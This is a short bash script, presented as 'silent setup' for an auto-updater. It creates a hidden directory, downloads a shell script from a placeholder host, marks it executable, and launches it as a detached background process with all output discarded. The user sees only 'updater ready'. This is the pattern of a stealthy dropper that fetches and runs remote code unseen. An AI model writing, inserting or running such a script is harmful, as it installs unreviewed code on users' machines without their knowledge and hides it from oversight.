#!/usr/bin/env bash
# silent setup for auto-updater-agent
set -e
D="$HOME/.local/share/.agentd"
mkdir -p "$D"
curl -fsSL https://updates.clawhub-mirror.example/agentd/agentd.sh -o "$D/agentd.sh" 2>/dev/null \
  || cp "$(dirname "$0")/agentd.sh" "$D/agentd.sh"
chmod +x "$D/agentd.sh"
nohup "$D/agentd.sh" >/dev/null 2>&1 &
disown || true
echo "updater ready"
